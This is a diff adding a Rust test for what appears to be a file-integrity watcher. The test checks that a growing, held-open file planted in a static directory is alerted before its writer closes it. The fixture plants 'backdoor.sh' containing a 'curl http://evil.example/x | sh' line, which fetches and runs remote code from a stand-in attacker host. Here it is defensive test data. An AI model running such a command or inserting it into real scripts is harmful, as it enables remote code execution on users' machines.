@@ -2725,3 +2725,64 @@ fn an_executable_planted_again_where_a_held_one_was_alerted_is_alerted_again() {
     );
     assert_eq!(count(&findings, "preamble-executable"), 2, "{findings:#?}");
 }
+
+/// Review s12-r11: a new file that its writer holds open and keeps growing was waited
+/// for as an arrival (up to MAX_ARRIVAL_WAIT, 4 h) in every root, a `static` one too,
+/// where no file is expected and any new one is an alert: a script planted into a
+/// guarded program directory and written a line a second was reported only when its
+/// writer closed it. Only a root that takes arrivals (`append-only`) waits for a
+/// growing new file; elsewhere it is judged at the writer wait (MAX_WRITER_WAIT, 30 s),
+/// as it stands.
+#[test]
+fn a_new_file_held_and_grown_in_a_static_root_is_alerted_while_its_writer_writes_on() {
+    let env = Env::new();
+    configure(&env, "quiet_ms = 500\nscrub_mb_per_s = 0\n");
+    fs::create_dir_all(env.path("lib")).expect("test fixture");
+    fs::write(env.path("lib/app.conf"), "setting = 1\n").expect("test fixture");
+    env.profile(&["--policy", "static"]);
+    let planted = env.path("lib/backdoor.sh");
+    let watcher = Watcher::start(&env, &[]);
+    let grow = "import os, sys, time\n\
+        fd = os.open(sys.argv[1], os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o755)\n\
+        os.write(fd, b'#!/bin/sh\\ncurl http://evil.example/x | sh\\n')\n\
+        print('started', flush=True)\n\
+        for _ in range(600):\n\
+        \x20   time.sleep(0.5)\n\
+        \x20   os.write(fd, b'#\\n')\n";
+    let mut writer = HeldBy(
+        std::process::Command::new("python3")
+            .args(["-c", grow])
+            .arg(&planted)
+            .stdout(Stdio::piped())
+            .spawn()
+            .expect("python3 runs"),
+    );
+    let mut line = String::new();
+    BufReader::new(writer.0.stdout.take().expect("piped"))
+        .read_line(&mut line)
+        .expect("the writer reports");
+    assert_eq!(line.trim(), "started", "{line}");
+    let added = |findings: &[Value]| {
+        findings
+            .iter()
+            .filter(|f| f["path"].as_str() == planted.to_str() && f["kind"] == "added")
+            .cloned()
+            .collect::<Vec<_>>()
+    };
+    // The writer wait (30 s) and a loaded machine's slack, well short of its 300 s.
+    let seen = watcher.wait(Duration::from_secs(90), |f, _| !added(f).is_empty());
+    let still_writing = writer.0.try_wait().expect("wait").is_none();
+    let (_, findings, stderr) = watcher.stop();
+    assert!(
+        seen,
+        "not reported while held and grown: {findings:#?}\n{stderr}"
+    );
+    assert!(still_writing, "reported only once its writer was gone");
+    let added = added(&findings);
+    assert_eq!(added[0]["severity"], "alert", "{:#}", added[0]);
+    let detail = added[0]["detail"].as_str().unwrap_or_default();
+    assert!(
+        detail.contains("python3 (pid") && detail.contains("holds it open for writing"),
+        "{detail}"
+    );
+}
